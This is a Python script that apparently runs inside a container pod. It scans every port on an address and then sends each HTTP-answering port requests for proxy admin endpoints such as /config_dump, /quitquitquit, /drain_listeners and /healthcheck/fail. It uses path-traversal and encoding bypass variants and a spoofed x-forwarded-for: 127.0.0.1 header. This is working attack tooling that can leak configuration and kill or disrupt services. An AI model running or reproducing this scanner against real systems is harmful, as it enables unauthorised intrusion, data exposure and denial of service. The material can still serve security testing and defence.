"""Run in a pod, as text: `scan ADDRESS` tries every port, `ask [[ADDRESS, PORT], …]` asks those that answered."""

import itertools
import json
import select
import socket
import sys
import time
from typing import Any

WIDTH, WAIT = 400, 2.0
HEADERS = "Host: 127.0.0.1\r\nx-forwarded-for: 127.0.0.1\r\nContent-Length: 2\r\nConnection: close"
REQUEST = "{} {} HTTP/1.1\r\n" + HEADERS + "\r\n\r\n[]"
METHODS = ("GET", "POST", "PUT", "DELETE", "CONNECT", "OPTIONS")
# fmt: off
PATHS = (
    "/", "/debug", "/metrics", "/stop", "/samples", "/state", "/config_dump", "/quitquitquit", "/healthcheck/fail",
    "/logging?level=trace", "/certs", "/ready", "/stats", "/stats/prometheus", "/ready/../config_dump", "//config_dump",
    "/stats/prometheus/../../config_dump", "/%63onfig_dump", "/ready?/quitquitquit", "/healthz", "/healthz/../debug",
    "/misbehave", "/aggressor", "/flows", "/drain_listeners", "/reset_counters", "/debug/pprof", "/readyz", "/v1/x",
    "/ready;/../config_dump", "/ready/%2e%2e/config_dump", "/ready%00/config_dump", "/healthz%2f..%2fdebug",
)
# fmt: on


def scan(address: str) -> dict[str, Any]:
    """Connect to every port, some hundred at once, and ask those that accept: those that answer in HTTP."""
    ports, poll = iter(range(1, 65_536)), select.epoll()
    held: dict[int, list[Any]] = {}
    answered: list[int] = []
    tried = 0

    def end(number: int) -> None:
        poll.unregister(number)
        held.pop(number)[0].close()

    more = True
    while held or more:
        while more and len(held) < WIDTH:
            port = next(ports, None)
            more = port is not None
            if more:
                tried += 1
                sock = socket.socket()
                sock.setblocking(False)
                sock.connect_ex((address, port))
                held[sock.fileno()] = [sock, port, time.monotonic() + WAIT]
                poll.register(sock, select.EPOLLOUT)
        for number, what in poll.poll(0.2):
            sock, port, _ = held[number]
            if what & select.EPOLLOUT and not sock.getsockopt(socket.SOL_SOCKET, socket.SO_ERROR):
                try:
                    sock.send(REQUEST.format("GET", "/debug").encode())
                except OSError:
                    end(number)
                    continue
                held[number][2] = time.monotonic() + WAIT
                poll.modify(sock, select.EPOLLIN)
                continue
            try:
                said = sock.recv(200) if what & select.EPOLLIN else b""
            except OSError:
                said = b""
            if said.startswith(b"HTTP/"):
                answered.append(port)
            end(number)
        now = time.monotonic()
        for number in [one for one, (_, _, until) in held.items() if until < now]:
            end(number)
    return {"tried": tried, "answered": answered}


def ask(doors: list[tuple[str, int]]) -> list[tuple[Any, ...]]:
    """Each of the methods and paths at each: address, port, method, path, status, the beginning of what was said."""
    answers = []
    for (address, port), path, method in itertools.product(doors, PATHS, METHODS):
        try:
            with socket.create_connection((address, port), 5) as sock:
                sock.sendall(REQUEST.format(method, path).encode())
                said = sock.recv(2000).decode("latin-1")
        except OSError:
            said = ""
        status = said.split(" ")[1] if said.startswith("HTTP/") else "0"
        answers.append((address, port, method, path, int(status), said.partition("\r\n\r\n")[2]))
    return answers


if __name__ == "__main__":
    given = json.loads(sys.argv[2])
    print(json.dumps(scan(given) if sys.argv[1] == "scan" else ask(given)))
